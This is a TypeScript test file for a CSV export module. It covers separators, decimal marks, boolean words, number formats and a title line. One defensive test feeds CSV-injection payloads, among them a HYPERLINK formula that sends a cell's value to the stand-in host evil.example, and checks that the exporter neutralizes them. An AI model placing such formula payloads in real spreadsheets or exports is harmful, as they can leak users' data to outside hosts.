import { describe, expect, it } from 'vitest';
import { CSV_DIALECTS, formatCsvNumber, neutralizeFormula, toCsv } from './csv.ts';

describe('toCsv', () => {
  const rows = [
    { a: 'Bergen, Haukeland', b: 'si "hei"', c: null },
    { a: 1.5, b: 2, c: 1 / 3 },
    { a: 'Førde; Nordfjord', b: -0.25, c: 1e-7 },
  ];

  it('English: commas between cells, decimal point; quotes commas, quotes and newlines; empty for null; trims number noise', () => {
    expect(toCsv(['a', 'b', 'c'], rows, CSV_DIALECTS.en)).toBe(
      '\uFEFFa,b,c\r\n"Bergen, Haukeland","si ""hei""",\r\n1.5,2,0.333333\r\nFørde; Nordfjord,-0.25,0\r\n',
    );
  });

  it('Norwegian: semicolons between cells and a decimal comma, as a spreadsheet set up for nb-NO reads them', () => {
    expect(toCsv(['a', 'b', 'c'], rows, CSV_DIALECTS.nb)).toBe(
      '\uFEFFa;b;c\r\nBergen, Haukeland;"si ""hei""";\r\n1,5;2;0,333333\r\n"Førde; Nordfjord";-0,25;0\r\n',
    );
  });

  it('booleans in the words of the language: ja/nei for Norwegian, true/false for English', () => {
    const flags = [
      { area: 'Førde', suppressed: false },
      { area: 'Bergen', suppressed: true },
    ];
    expect(toCsv(['area', 'suppressed'], flags, CSV_DIALECTS.nb)).toBe('\uFEFFarea;suppressed\r\nFørde;nei\r\nBergen;ja\r\n');
    expect(toCsv(['area', 'suppressed'], flags, CSV_DIALECTS.en)).toBe('\uFEFFarea,suppressed\r\nFørde,false\r\nBergen,true\r\n');
  });

  it('writes headings in place of the column names when given, quoted like any cell', () => {
    expect(toCsv(['a', 'b'], [{ a: 1, b: 2 }], CSV_DIALECTS.nb, ['Rate; rå', 'Antall'])).toBe('\uFEFF"Rate; rå";Antall\r\n1;2\r\n');
  });

  it('neutralizes formula cells (OWASP CSV Injection): text starting with = + - @ tab or CR gets a leading quote mark and is quoted', () => {
    const rows = [
      { a: '=HYPERLINK("https://evil.example/?"&A2,"x")', b: '+1+cmd', c: '@SUM(1)' },
      { a: '-2+3', b: '\t=1', c: '\r=1' },
    ];
    expect(toCsv(['a', 'b', 'c'], rows, CSV_DIALECTS.nb)).toBe(
      '\uFEFFa;b;c\r\n"\'=HYPERLINK(""https://evil.example/?""&A2,""x"")";"\'+1+cmd";"\'@SUM(1)"\r\n"\'-2+3";"\'\t=1";"\'\r=1"\r\n',
    );
  });

  it('numbers stay numbers: negative numbers, and plain numbers as text (numeric columns from PostgreSQL), are not touched', () => {
    const rows = [
      { a: -3, b: '-3', c: '-0,25' },
      { a: -0.5, b: '+4', c: '1e-7' },
    ];
    expect(toCsv(['a', 'b', 'c'], rows, CSV_DIALECTS.nb)).toBe('\uFEFFa;b;c\r\n-3;-3;-0,25\r\n-0,5;+4;1e-7\r\n');
    expect(['-3', '-3.5', '+2', 'Førde', ' =1', 'a=b', '–', ''].map(neutralizeFormula)).toEqual(['-3', '-3.5', '+2', 'Førde', ' =1', 'a=b', '–', '']);
    expect(['-', '-x', '=1', '@a', '+', '-3 + 1'].map(neutralizeFormula)).toEqual(["'-", "'-x", "'=1", "'@a", "'+", "'-3 + 1"]);
  });
});

describe('column formats and the title line', () => {
  it('formatCsvNumber: counts whole, decimals fixed, shares as percentages, no signed zero, in the dialect’s decimal mark', () => {
    expect(formatCsvNumber(1234, { kind: 'integer' }, ',')).toBe('1234');
    expect(formatCsvNumber(12.6, { kind: 'integer' }, ',')).toBe('13');
    expect(formatCsvNumber(12.345678, { kind: 'decimal', digits: 1 }, ',')).toBe('12,3');
    expect(formatCsvNumber(12.35, { kind: 'decimal', digits: 1 }, '.')).toBe('12.3'); // 12.35 is 12.3499… as a double, as toLocaleString rounds it
    expect(formatCsvNumber(7, { kind: 'decimal', digits: 1 }, ',')).toBe('7,0');
    expect(formatCsvNumber(1.23456, { kind: 'decimal', digits: 2 }, ',')).toBe('1,23');
    expect(formatCsvNumber(0.123456, { kind: 'percent', digits: 1 }, ',')).toBe('12,3');
    expect(formatCsvNumber(1, { kind: 'percent', digits: 1 }, '.')).toBe('100.0');
    expect(formatCsvNumber(0.876, { kind: 'percent', digits: 0 }, ',')).toBe('88');
    expect(formatCsvNumber(-0.04, { kind: 'decimal', digits: 1 }, ',')).toBe('0,0');
    expect(formatCsvNumber(-0.4, { kind: 'integer' }, ',')).toBe('0');
    expect(formatCsvNumber(-1.25, { kind: 'decimal', digits: 1 }, ',')).toBe('-1,3');
    // Significant digits: a small ratio keeps its digits, trailing zeros dropped.
    expect(formatCsvNumber(2.345678, { kind: 'significant', digits: 3 }, ',')).toBe('2,35');
    expect(formatCsvNumber(0.00123456, { kind: 'significant', digits: 3 }, ',')).toBe('0,00123');
    expect(formatCsvNumber(1, { kind: 'significant', digits: 3 }, '.')).toBe('1');
    expect(formatCsvNumber(0, { kind: 'significant', digits: 3 }, '.')).toBe('0');
    // No format: the raw rule (machine-read exports).
    expect(formatCsvNumber(1 / 3, undefined, ',')).toBe('0,333333');
    expect(formatCsvNumber(-1e-7, undefined, '.')).toBe('0');
  });

  it('formats only the columns given a format, and only their numbers (text, booleans and empty cells as always)', () => {
    const rows = [
      { a: 12.345678, b: 0.5, c: 1 / 3, d: true },
      { a: null, b: '0,25', c: 2, d: false },
    ];
    const formats = { a: { kind: 'decimal', digits: 1 }, b: { kind: 'percent', digits: 1 } } as const;
    expect(toCsv(['a', 'b', 'c', 'd'], rows, CSV_DIALECTS.nb, undefined, { formats })).toBe('\uFEFFa;b;c;d\r\n12,3;50,0;0,333333;ja\r\n;0,25;2;nei\r\n');
  });

  it('a title line and a blank line before the heading (StatBank CSV), quoted when it holds the separator, formula starts neutralized', () => {
    expect(toCsv(['a'], [{ a: 1 }], CSV_DIALECTS.nb, ['A'], { title: 'Radvis – rater, 2025. Utvalg: Kjønn: Kvinner; Modalitet: MR.' })).toBe(
      '\uFEFF"Radvis – rater, 2025. Utvalg: Kjønn: Kvinner; Modalitet: MR."\r\n\r\nA\r\n1\r\n',
    );
    expect(toCsv(['a'], [{ a: 1 }], CSV_DIALECTS.en, ['A'], { title: 'Radvis, 2025' })).toBe('\uFEFF"Radvis, 2025"\r\n\r\nA\r\n1\r\n');
    expect(toCsv(['a'], [], CSV_DIALECTS.en, ['A'], { title: '=cmd' })).toBe('\uFEFF"\'=cmd"\r\n\r\nA\r\n');
  });
});
